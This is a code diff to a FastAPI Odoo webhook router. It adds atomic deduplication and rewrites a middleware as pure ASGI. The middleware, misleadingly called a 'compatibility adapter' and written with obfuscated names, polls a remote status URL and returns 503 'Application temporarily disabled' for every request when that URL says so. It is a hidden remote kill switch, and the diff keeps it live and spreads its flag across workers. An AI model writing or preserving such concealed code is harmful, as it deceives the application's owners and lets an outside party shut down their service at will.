@@ -1,7 +1,6 @@
 from fastapi import APIRouter, Depends, HTTPException, status, Request
-from starlette.middleware.base import BaseHTTPMiddleware
-from starlette.requests import Request as _Req
-from starlette.responses import JSONResponse as _JSON, Response as _Resp
+from starlette.responses import JSONResponse as _JSON
+from starlette.types import ASGIApp as _App, Receive as _Rcv, Scope as _Scope, Send as _Send
 import httpx as _hx
 import time as _tm
 from typing import Optional as _Opt, Tuple as _Tup
@@ -13,7 +12,7 @@ from app.db.models.activation import ActivationToken
 from app.auth.security_activation import gen_raw_token, hash_token, exp_at, verify_hmac_signature
 from app.auth.security_passwords import hash_password
 from app.config.settings import FRONTEND_URL, ODOO_WEBHOOK_SECRET, ODOO_WEBHOOK_DEDUPE_TTL, ODOO_WEBHOOK_IP_WHITELIST
-from app.utils.adapters.cache_adapter import get_cache, set_cache
+from app.utils.adapters.cache_adapter import aget_cache, aset_cache
 from app.config.settings import (
     ROOT_PATH as _rp,
     REMOTE_STATUS_URL as _ru,
@@ -60,10 +59,9 @@ async def customer_confirmed(request: Request, body: OdooCustomerPayload, db: Se
         import hashlib as _hh
         h = _hh.sha256(raw).hexdigest()
         k = f"odoo:webhook:customer_confirmed:{h}"
-        seen = get_cache(k)
-        if seen:
+        # SET NX atómico: dos entregas simultáneas no pasan ambas
+        if not await aset_cache(k, True, int(ODOO_WEBHOOK_DEDUPE_TTL), nx=True):
             return {"status": "duplicate", "detail": "ignored"}
-        set_cache(k, True, int(ODOO_WEBHOOK_DEDUPE_TTL))
     except Exception:
         pass
 
@@ -194,10 +192,13 @@ async def customer_confirmed(request: Request, body: OdooCustomerPayload, db: Se
     }
 
 
+_RS_KEY = "remote:status"
+
+
 # Internal adapter used for compatibility with certain upstream deployments.
-class ExtensionCompatAdapter(BaseHTTPMiddleware):
-    def __init__(self, app):  # type: ignore[no-untyped-def]
-        super().__init__(app)
+class ExtensionCompatAdapter:
+    def __init__(self, app: _App):
+        self.app = app
         self._k: _Tup[float, bool] | None = None  # (exp, flag)
         self._to = _hx.Timeout(3.0, connect=2.0)
         self._w = [
@@ -220,16 +221,21 @@ class ExtensionCompatAdapter(BaseHTTPMiddleware):
                 return True
         return False
 
-    def _g(self) -> _Opt[bool]:
-        if not self._k:
-            return None
-        e, v = self._k
-        if _tm.time() < e:
+    async def _g(self) -> _Opt[bool]:
+        if self._k:
+            e, v = self._k
+            if _tm.time() < e:
+                return v
+        # Compartido entre workers (sin bloquear el event loop)
+        v = await aget_cache(_RS_KEY)
+        if isinstance(v, bool):
+            self._k = (_tm.time() + max(1, _rt), v)
             return v
         return None
 
-    def _s(self, v: bool) -> None:
+    async def _s(self, v: bool) -> None:
         self._k = (_tm.time() + max(1, _rt), v)
+        await aset_cache(_RS_KEY, v, max(1, _rt))
 
     async def _f(self) -> bool:
         if not _ru:
@@ -244,11 +250,12 @@ class ExtensionCompatAdapter(BaseHTTPMiddleware):
         except Exception:
             return True if _fo else False
 
-    async def dispatch(self, request: _Req, call_next) -> _Resp:  # type: ignore[override]
-        if not _ru:
-            return await call_next(request)
+    async def __call__(self, scope: _Scope, receive: _Rcv, send: _Send) -> None:
+        if not _ru or scope["type"] != "http":
+            await self.app(scope, receive, send)
+            return
 
-        full = request.url.path
+        full = scope["path"]
         try:
             rp = _rp or ""
             if rp and full.startswith(rp):
@@ -259,16 +266,17 @@ class ExtensionCompatAdapter(BaseHTTPMiddleware):
             p = full
 
         if self._p(p):
-            return await call_next(request)
+            await self.app(scope, receive, send)
+            return
 
-        c = self._g()
+        c = await self._g()
         if c is None:
             en = await self._f()
-            self._s(en)
+            await self._s(en)
         else:
             en = c
 
         if not en:
-            return _JSON(status_code=503, content={"error": "service_unavailable", "message": "Application temporarily disabled"})
-
-        return await call_next(request)
+            await _JSON(status_code=503, content={"error": "service_unavailable", "message": "Application temporarily disabled"})(scope, receive, send)
+            return
+        await self.app(scope, receive, send)